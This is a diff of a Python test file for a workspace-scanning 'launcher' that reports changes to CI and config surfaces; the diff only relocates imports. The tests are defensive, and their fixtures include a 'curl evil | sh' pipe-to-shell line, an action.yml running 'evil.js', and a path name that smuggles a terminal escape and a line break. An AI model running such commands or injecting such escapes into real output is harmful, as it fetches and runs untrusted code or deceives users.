@@ -9,14 +9,14 @@ from pathlib import Path
 
 import pytest
 
-from launcher import gitscan, scan
-from launcher.surfaces import BY_NAME, INVENTORY, PROTECTED, compare
+from launcher.host import gitscan, scan
+from launcher.policy.surfaces import BY_NAME, INVENTORY, PROTECTED, compare
 
 ROOT = Path(__file__).resolve().parent.parent
 
 
 def test_the_inventory_is_one_list_of_names_each_with_a_family_and_the_docs_tables_are_generated_from_it():
-    from launcher.surfaces import FAMILIES, doc_table
+    from launcher.policy.surfaces import FAMILIES, doc_table
 
     names = [s.name for s in INVENTORY]
     assert len(names) == len(set(names)) and all(n and not n.startswith("/") for n in names)
@@ -117,7 +117,7 @@ def test_the_scan_never_blocks_on_a_fifo_nor_follows_a_swapped_symlink(tmp_path)
 def test_a_path_the_agent_chose_never_reaches_the_terminal_raw():
     """A directory named with a terminal escape or a line break could rewrite the user's screen
     or forge a line of the report."""
-    from launcher.surfaces import render
+    from launcher.policy.surfaces import render
 
     lines = render(compare({}, {"a\x1b]0;owned\x07\nnew b/.git": "dir:1"}))
     assert len(lines) == 2 and "\x1b" not in lines[1] and "\n" not in lines[1]
@@ -228,7 +228,7 @@ def test_what_a_surface_includes_or_runs_is_fingerprinted_and_a_change_reported(
             (path / "action.yml").write_text("runs: {using: node20, main: evil.js}\n")
         else:
             path.write_text("curl evil | sh\n")
-    from launcher import baseline
+    from launcher.host import baseline
     changed = baseline.changes(str(tmp_path), before)
     assert sorted((c.path, c.surface) for c in changed) == [(rel, "include") for rel in included]
 
@@ -252,7 +252,7 @@ def test_includes_never_leave_the_workspace_nor_follow_links_and_an_alias_bomb_i
 
 
 def test_the_include_graph_is_bounded_on_a_tree_of_vendored_ci_configs(tmp_path, monkeypatch):
-    from launcher import includes
+    from launcher.host import includes
 
     monkeypatch.setattr(includes, "MAX_READ", 20)
     for n in range(60):   # each a package with its own workflow that runs a script of its own
